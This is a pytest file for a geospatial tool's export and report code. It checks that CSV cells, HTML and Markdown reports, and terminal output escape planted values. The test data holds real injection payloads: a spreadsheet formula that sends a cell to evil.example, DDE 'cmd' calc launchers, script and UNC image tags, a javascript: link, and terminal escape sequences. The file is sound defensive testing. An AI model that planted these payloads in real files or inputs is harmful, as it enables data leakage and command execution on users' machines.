"""Texts that somebody planted in names and values come out as texts: in a table, on a page, in a terminal."""

import csv

import numpy as np
import pyogrio
import pytest
import shapely

from engine.cli.main import main
from engine.comparison.bootstrap import Figure
from engine.comparison.figures import Panel, Picture
from engine.comparison.report import Report, write_report
from engine.escaping import csv_cell, terminal_text

PLANTED = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\uff1d1+1", "<script>alert(1)</script>", "<img src='\\\\evil.example\\a.png'>", "[% env('HOME') %]",
    "a|b](javascript:alert(1))",
)  # fmt: skip
FORMULAS = PLANTED[:7]


@pytest.mark.parametrize("text", ["-3.5", "+4", "-1e-3", "landslide", "", "2024-05-01", "a=b", "1-2"])
def test_numbers_and_plain_texts_stay_what_they_are_in_a_csv(text):
    assert csv_cell(text) == text
    assert csv_cell(-3.5) == -3.5


@pytest.mark.parametrize("text", ["-inf", "=1", "- 1", "-1 ", "+", "-"])
def test_what_a_spreadsheet_could_take_for_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == f"'{text}"


def test_an_exported_table_holds_no_formula(tmp_path):
    boxes = shapely.to_wkb(np.array([shapely.box(0, 0, 1, 1)] * len(PLANTED), object))
    columns = [np.array(PLANTED, object), np.full(len(PLANTED), -3.5), np.array(["-3.5"] * len(PLANTED), object)]
    pyogrio.raw.write(
        tmp_path / "a.gpkg", boxes, columns, ["=name", "depth", "words"], driver="GPKG", crs="EPSG:32648",
        geometry_type="Polygon",
    )  # fmt: skip
    assert main(["export", str(tmp_path / "a.gpkg"), "--format", "csv", "--out", str(tmp_path / "a.csv")]) == 0
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["'=name", "depth", "words"]
    assert [row[1:] for row in rows] == [["-3.5", "-3.5"]] * len(PLANTED)
    for planted, (name, *_) in zip(PLANTED, rows, strict=True):
        assert name.replace("\r", "\n") == (f"'{planted}" if planted in FORMULAS else planted).replace("\r", "\n")


def test_a_report_shows_planted_names_as_they_stand(tmp_path):
    table = {name: {"mean IoU": Figure(-0.5, -0.6, -0.4), "found": -3} for name in ("Constant disc", *PLANTED)}
    panel = Panel(PLANTED[7], (Picture(PLANTED[8], np.zeros((2, 2, 3), np.uint8)),))
    write_report(Report(PLANTED[7], table, {}, [panel]), tmp_path)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page
    assert page.count("<img") == 1
    assert 'src="panels/01-01.png"' in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    markdown = (tmp_path / "table.md").read_text(encoding="utf-8")
    assert "<" not in markdown
    assert r"b\](javascript" in markdown
    rows = markdown.splitlines()[5:]
    assert {row.replace("\\|", "").count("|") for row in rows} == {5}, "a planted bar makes a cell of its own"
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert {"-0.5", "-3"} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "-2+"))]


def test_a_terminal_is_not_rewritten():
    assert terminal_text("a\x1b[2Jb\x07\tc\nd\u202ee") == "a\ufffd[2Jb\ufffd\tc\nd\ufffde"


def test_a_card_of_somebodys_is_printed_without_control_characters(tiny_model, tmp_path, capsys):
    from engine.model_file.bundle import open_model, write_model  # noqa: PLC0415

    model = open_model(tiny_model)
    card = {**model.card, "training_data": "Evil\x1b[31mred\x07"}
    path = write_model(tmp_path / "a.lsmodel", card, {role: model.network(role) for role in card["networks"]})
    assert main(["model", "show", str(path)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\x07" not in shown
    assert "Evil" in shown
